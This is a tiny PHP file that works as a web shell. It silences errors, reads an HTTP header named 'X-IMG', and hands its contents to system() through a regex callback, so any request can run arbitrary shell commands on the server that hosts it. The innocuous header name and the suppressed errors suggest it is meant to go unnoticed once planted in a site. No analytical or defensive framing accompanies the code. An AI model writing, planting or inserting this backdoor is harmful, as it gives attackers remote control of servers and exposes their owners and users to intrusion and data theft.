<?php
error_reporting(0);
$z = getallheaders()['X-IMG'];
preg_replace_callback_array(array('/.+/' => function ($m) { return system($m[0]); }), $z);
